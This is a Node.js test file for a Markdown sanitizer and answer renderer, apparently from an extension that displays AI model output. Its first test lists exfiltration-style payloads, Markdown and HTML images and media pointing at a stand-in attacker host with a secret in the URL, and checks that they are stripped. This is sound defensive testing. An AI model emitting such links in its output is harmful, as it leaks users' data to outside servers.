import assert from 'node:assert/strict';
import { test } from 'node:test';
import { checkText } from '../../engine/solve/check.ts';
import type { Answer } from '../../engine/protocol.ts';
import { AnswerText, safeMarkdown } from '../../extension/features/askMarkdown.ts';

const answer: Answer = {
  ...{ thought: 'hm', answer: 'Four.', stopReason: 'end' as const, thoughtCut: false },
  ...{ promptTokens: null, tokens: null, millis: 1234, device: 'server h', model: 'm' },
};

test('a model’s text loads nothing when it is shown', () => {
  const attempts = [
    '![x](https://evil.example/?q=secret)',
    '![x][ref]',
    '<img src="https://evil.example">',
    '< IMG src=x>',
    '<svg><image href="https://evil.example"/></svg>',
    '<video src="https://evil.example"></video>',
    '<link rel=stylesheet href=x><style>@import "x"</style>',
    '\\[![x](https://evil.example)\\]',
  ];
  for (const attempt of attempts) {
    const safe = safeMarkdown(attempt);
    assert.doesNotMatch(safe, /(?<!\\)!\[|!\[/, attempt);
    assert.doesNotMatch(safe, /<\s*\/?\s*(img|image|svg|video|link|style)/i, attempt);
  }
});

test('LaTeX delimiters become those of Markdown', () => {
  assert.equal(safeMarkdown('\\( x \\) and \\[ y^2 \\]'), '$x$ and $$ y^2 $$');
  assert.equal(safeMarkdown('a < b, <b>bold</b>, [1] and $5'), 'a < b, <b>bold</b>, [1] and $5');
});

test('the document while it is written, and at its end', () => {
  const text = new AnswerText('What\nis it?', ['a.png', 'b`.png'], 'auto');
  assert.match(
    text.toString(),
    /^> What\n> is it\?\n\n\*`a\.png`, `b \.png` · mode auto\*\n\n\*Waiting/,
  );
  text.add({ kind: 'answer', text: 'two and two' });
  assert.match(text.toString(), /\n\ntwo and two\n$/);
  text.add({ kind: 'was-thought' });
  text.add({ kind: 'answer', text: 'Fo' });
  assert.match(
    text.toString(),
    /<summary>Thought<\/summary>\n\ntwo and two\n\n<\/details>\n\nFo\n$/,
  );
  text.finish(answer);
  assert.match(
    text.toString(),
    /\n\nhm\n\n<\/details>\n\nFour\.\n\n---\n\*m on server h, 1\.2 s\*\n$/,
  );
  text.finish({ ...answer, answer: '', thoughtCut: true, stopReason: 'length' });
  assert.match(text.toString(), /thought was cut at its limit of tokens; there is no answer/);
});

test('a failure keeps what was written', () => {
  const text = new AnswerText('?', ['a.png'], 'think');
  text.add({ kind: 'answer', text: 'half' });
  text.fail({ code: 'server-dropped', message: 'It broke.', action: 'Try again.' });
  assert.match(text.toString(), /\n\nhalf\n\n---\n\*\*It broke\.\*\* Try again\.\n$/);
});

test('checked equations have a quiet sign, refuted ones their reason; the text is the same else', () => {
  const written = 'So $1+1=2$ and\n\n\\[ 2\\cdot 3=7 \\]\n\nand $x=5$, 3*3 = 9 here.';
  const checks = checkText(written);
  const text = new AnswerText('?', ['a.png'], 'auto');
  text.finish({ ...answer, answer: written, checks });
  const shown = text.toString();
  assert.match(shown, /\$1\+1=2\$ ✓ and/);
  assert.match(shown, /\$\$ 2\\cdot 3=7 \$\$ ✗/);
  assert.match(shown, /\$x=5\$, 3\*3 = 9 ✓ here/);
  assert.match(
    shown,
    /\*Steps: 2 verified, 1 refuted, 1 not checkable\*\n\n- ✗ \$2\\cdot 3 = 7\$: the value is 6/,
  );
});
